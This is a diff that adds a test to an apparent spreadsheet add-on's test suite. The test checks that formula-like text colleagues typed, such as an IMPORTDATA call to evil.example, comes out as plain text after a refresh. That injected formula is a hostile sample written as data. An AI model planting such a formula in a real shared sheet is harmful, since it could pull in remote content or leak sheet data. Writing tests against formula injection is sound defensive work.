@@ -74,4 +74,24 @@ describe("Show job changes in a shared spreadsheet", () => {
     expect(second.sheetName).toBe(first.sheetName);
     expect(addon.runtime.getValues(second.sheetName, "A1:A7").flat().filter(String)).toHaveLength(7);
   });
+
+  it("writes what colleagues typed (an old title that looks like a formula) as text", () => {
+    refresh();
+    // A colleague typed these as text (a leading apostrophe): the run replaces them.
+    addon.runtime.setCell(SHEET, "B2", `'=IMPORTDATA("https://evil.example/x")`);
+    addon.runtime.setCell(SHEET, "C2", "'+1-2");
+    addon.runtime.select(SHEET, `A1:A${urls.length + 1}`);
+    const estimate = rpcValue<EnrichEstimate>(addon.runtime, "enrichEstimate", {
+      options: { fields: ["job_title", "company_name"], extras: {}, mode: "refresh" },
+    });
+    rpcValue<EnrichProgress>(addon.runtime, "enrichConfirm", { jobId: estimate.progress.jobId });
+    expect(driveSteps(addon.runtime, estimate.progress.jobId).state).toBe("done");
+    const sheet = show();
+    const cells = addon.runtime.getSheetCells(sheet.sheetName);
+    const formulas = cells.flat().filter((cell) => String(cell.input ?? "").startsWith("="));
+    expect(formulas).toEqual([]);
+    const texts = cells.flat().map((cell) => String(cell.value ?? ""));
+    expect(texts).toContain(`=IMPORTDATA("https://evil.example/x")`);
+    expect(texts).toContain("+1-2");
+  });
 });
